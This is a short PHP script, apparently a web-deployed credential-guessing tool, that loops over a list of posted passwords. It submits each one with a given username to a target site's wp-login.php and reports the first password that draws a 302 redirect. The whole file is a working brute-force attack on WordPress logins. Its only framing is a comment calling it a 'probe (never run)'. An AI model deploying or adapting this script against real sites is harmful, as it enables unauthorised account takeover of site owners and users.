<?php
// probe (never run): passwords posted, tried on wp-login.php through a stream context
foreach (preg_split('/\r?\n/', $_POST['pw']) as $try) {
    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => "Content-Type: application/x-www-form-urlencoded\r\n",
        'content' => http_build_query(array('log' => $_POST['u'], 'pwd' => $try)))));
    $r = @file_get_contents($_POST['t'] . '/wp-login.php', false, $ctx);
    if (strpos($http_response_header[0], '302') !== false) { die("ok: $try"); }
}
